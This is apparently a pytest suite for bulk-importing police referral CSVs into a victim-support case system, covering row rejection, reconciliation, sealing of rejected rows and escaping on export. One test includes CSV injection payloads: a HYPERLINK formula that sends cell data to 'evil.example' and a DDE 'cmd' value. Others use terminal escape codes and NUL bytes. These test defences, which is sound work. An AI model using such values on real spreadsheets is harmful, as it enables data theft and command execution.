"""Bulk referral files: good rows load, bad rows are rejected with reasons, counts reconcile."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from accord.cases.models import Case
from accord.people.crypto import current_crypto
from accord.people.models import Subject
from accord.referrals import bulk
from accord.referrals.cli import file_actor
from accord.referrals.rejects import open_rejects, seal_rejects, write_for_correction
from accord.settings import get_settings
from accord.store import migrate
from cases.lvws import dob_for_age

HEADER = list(bulk.COLUMNS)


def _row(**overrides: str) -> dict[str, str]:
    now = datetime.now(UTC)
    row = {
        "police_reference": "MPS-0001",
        "role": "victim",
        "given_name": "Priya",
        "family_name": "Shah",
        "date_of_birth": "14/02/1990",
        "phone": "020 7946 0001",
        "crime_number": "2345678/26",
        "crime_date": (now - timedelta(days=2)).strftime("%d/%m/%Y"),
        "crime_type": "theft",
        "consent_given": "yes",
        "consent_captured_by": "PC 42 Example",
        "consent_captured_at": (now - timedelta(hours=1)).isoformat(),
        "consent_channel": "phone",
    }
    row.update(overrides)
    return row


def _write(path: Path, rows: list[dict[str, str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as out:
        writer = csv.DictWriter(out, fieldnames=HEADER)
        writer.writeheader()
        writer.writerows(rows)
    return path


ROWS = [
    _row(),
    _row(
        police_reference="MPS-0002",
        given_name="Tom",
        family_name="Reid",
        date_of_birth=dob_for_age(16),
        phone="07700 900777",
    ),
    _row(crime_number="AB12345"),
    _row(date_of_birth="01/01/2999"),
    _row(consent_given="no"),
    _row(crime_type="shoplifting-ish", vulnerable="maybe"),
    _row(given_name=""),
    _row(),  # MPS-0001 again: the police system sent it twice
]


def _counts(session: Session) -> tuple[int, int]:
    return (
        session.scalar(select(func.count()).select_from(Case)) or 0,
        session.scalar(select(func.count()).select_from(Subject)) or 0,
    )


def test_good_rows_load_and_bad_rows_are_reported(session: Session, tmp_path: Path) -> None:
    before = _counts(session)
    _, rows = bulk.read_rows(_write(tmp_path / "feed.csv", ROWS))
    report = bulk.import_rows(
        session, actor=file_actor("lvws", "metropolitan-police"), rows=rows, register="lvws"
    )
    assert report.rows == 8
    assert report.loaded == 2
    assert len(report.rejected) == 6
    assert report.reconciles
    assert report.routed == {"adult-da-support": 1, "cyp-support": 1}
    by_row = {r.row: " | ".join(r.reasons) for r in report.rejected}
    assert "crime_number" in by_row[3]
    assert "date_of_birth: date of birth is in the future" in by_row[4]
    assert "consent_given" in by_row[5]
    assert "vulnerable: not yes or no" in by_row[6]
    assert "given_name" in by_row[7]
    assert "police_reference: already received" in by_row[8]
    # only the two good rows wrote anything (each bad row left no subject behind)
    assert _counts(session) == (before[0] + 2, before[1] + 2)
    rejects = tmp_path / "feed.rejects.csv"
    bulk.write_rejects(rejects, report.rejected)
    lines = list(csv.DictReader(rejects.open(encoding="utf-8")))
    assert sorted({int(line["row"]) for line in lines}) == [3, 4, 5, 6, 7, 8]
    assert {"crime_number", "vulnerable", "given_name"} <= {line["column"] for line in lines}


def test_file_missing_columns_loads_nothing(tmp_path: Path) -> None:
    path = tmp_path / "bad.csv"
    path.write_text("given_name,family_name\nA,B\n", encoding="utf-8")
    with pytest.raises(bulk.BadFileError, match="missing columns crime_number"):
        bulk.read_rows(path)


@pytest.fixture
def cli_database(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    url = f"sqlite:///{tmp_path / 'cli.db'}"
    migrate.upgrade(url)
    monkeypatch.setenv("ACCORD_DATABASE_URL", url)
    monkeypatch.setenv("ACCORD_ENVIRONMENT", "test")
    get_settings.cache_clear()
    yield url
    get_settings.cache_clear()


def test_import_command_reports_and_writes_rejects(cli_database: str, tmp_path: Path) -> None:
    from accord.cli import app

    feed = _write(tmp_path / "met.csv", ROWS)
    result = CliRunner().invoke(
        app,
        ["referrals", "import", str(feed), "--register", "lvws", "--org", "metropolitan-police"],
    )
    assert result.exit_code == 1, result.output
    assert "8 rows read" in result.output
    assert "reconciles" in result.output
    assert (tmp_path / "met.rejects.csv").exists()
    unknown = CliRunner().invoke(
        app, ["referrals", "import", str(feed), "--register", "nope", "--org", "x"]
    )
    assert unknown.exit_code == 2


def _keys() -> int:
    return len(current_crypto().keystore.subject_ids())


def _import(session: Session, rows: list[dict[str, str]], tmp_path: Path) -> bulk.ImportReport:
    _, read = bulk.read_rows(_write(tmp_path / "feed.csv", rows))
    return bulk.import_rows(
        session, actor=file_actor("lvws", "metropolitan-police"), rows=read, register="lvws"
    )


@pytest.mark.parametrize(
    ("bad", "reason"),
    [
        ({"family_name": "Sh\x00ah"}, "family_name: contains a NUL byte"),
        ({"consent_captured_by": "PC\x0042"}, "consent_captured_by: contains a NUL byte"),
        ({"police_reference": "MPS\x00-9"}, "police_reference: contains a NUL byte"),
        ({"address": "x" * 131_072}, "address: longer than 1000 characters"),
        ({"given_name": "\x1b[2J\x1b[31mPriya"}, "given_name: contains a control character"),
    ],
)
def test_a_broken_cell_rejects_its_row_and_the_good_rows_load(
    session: Session, tmp_path: Path, bad: dict[str, str], reason: str
) -> None:
    before, keys = _counts(session), _keys()
    rows = [
        _row(police_reference="MPS-1"),
        _row(police_reference="MPS-2", **{k: v for k, v in bad.items() if k != "police_reference"})
        if "police_reference" not in bad
        else _row(**bad),
        _row(police_reference="MPS-3", given_name="Tom", phone="07700 900777"),
    ]
    report = _import(session, rows, tmp_path)
    assert report.loaded == 2
    assert [r.row for r in report.rejected] == [2]
    assert any(reason in why for why in report.rejected[0].reasons), report.rejected[0].reasons
    # the good rows are stored; the rejected one left no case, subject or key behind
    assert _counts(session) == (before[0] + 2, before[1] + 2)
    assert _keys() == keys + 2


def test_row_refused_after_its_subject_was_made_leaves_no_key(
    session: Session, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from accord.referrals import intake

    def broken(*args: object, **kwargs: object) -> list[object]:
        raise ValueError("index: cannot be written")

    monkeypatch.setattr(intake, "propose_matches", broken)
    before, keys = _counts(session), _keys()
    report = _import(session, [_row()], tmp_path)
    assert report.loaded == 0
    assert report.rejected[0].reasons == ("row: could not be stored (ValueError)",)
    assert _counts(session) == before
    assert _keys() == keys


PERSONAL = ["Priya", "Shah", "14/02/1990", "020 7946 0001", "White British", "=HYPERLINK"]


def test_rejects_file_holds_no_personal_values_and_the_rows_stay_sealed(
    session: Session, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = [
        _row(ethnicity="White British", crime_type="not-a-crime"),
        _row(police_reference="MPS-7", given_name=formula, crime_number="+cmd|' /C calc'!A0"),
    ]
    report = _import(session, rows, tmp_path)
    assert report.loaded == 0
    rejects, sealed = tmp_path / "feed.rejects.csv", tmp_path / "feed.rejects.sealed"
    bulk.write_rejects(rejects, report.rejected)
    seal_rejects(sealed, list(bulk.COLUMNS), report.rejected)
    text = rejects.read_text(encoding="utf-8")
    lines = list(csv.DictReader(rejects.open(encoding="utf-8")))
    assert {(line["row"], line["column"]) for line in lines} >= {
        ("1", "crime_type"),
        ("2", "crime_number"),
    }
    assert list(lines[0]) == ["row", "column", "reason"]
    for value in PERSONAL:
        assert value not in text
        assert value.encode() not in sealed.read_bytes()
    # the sealed rows open again for correction, and the corrected file imports
    header, kept = open_rejects(sealed)
    assert [number for number, _ in kept] == [1, 2]
    assert kept[1][1]["given_name"] == formula
    fixed = tmp_path / "fixed.csv"
    write_for_correction(fixed, header, [values for _, values in kept])
    assert fixed.read_text(encoding="utf-8").count("'=HYPERLINK") == 1  # escaped on disk
    _, again = bulk.read_rows(fixed)
    assert again[1]["given_name"] == formula  # and read back as it was


def test_import_command_writes_reasons_and_seals_rows(cli_database: str, tmp_path: Path) -> None:
    from accord.cli import app

    feed = _write(tmp_path / "met.csv", [_row(ethnicity="Mixed", date_of_birth="01/01/0001")])
    result = CliRunner().invoke(
        app,
        ["referrals", "import", str(feed), "--register", "lvws", "--org", "metropolitan-police"],
    )
    assert result.exit_code == 1, result.output
    rejects = (tmp_path / "met.rejects.csv").read_text(encoding="utf-8")
    assert "date_of_birth" in rejects
    assert "Priya" not in rejects
    assert "Mixed" not in rejects
    out = tmp_path / "fix.csv"
    opened = CliRunner().invoke(
        app,
        ["referrals", "rejects", "open", str(tmp_path / "met.rejects.sealed"), "--out", str(out)],
    )
    assert opened.exit_code == 0, opened.output
    assert "Priya" in out.read_text(encoding="utf-8")
